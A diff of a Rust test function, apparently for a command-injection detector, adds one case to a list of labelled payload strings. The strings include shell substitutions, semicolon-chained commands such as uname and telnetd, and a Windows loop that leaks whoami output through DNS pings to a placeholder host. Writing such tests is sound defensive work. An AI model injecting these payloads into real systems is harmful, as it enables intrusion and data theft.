@@ -51,6 +51,7 @@ fn positions() {
     check("$(sleep 5)", "substitution delay number");
     check("`id`", "substitution recon bare");
     check("1';uname -a;'", "semicolon recon quote-break");
+    check(";export x=id;$x", "semicolon recon");
     check("127.0.0.1;telnetd", "semicolon network bare");
     check("&for /f %i in ('whoami') do ping %i.x.example", "loop");
     check("1|for /f \"delims=\" %A in ('ver') do @echo %A", "loop");
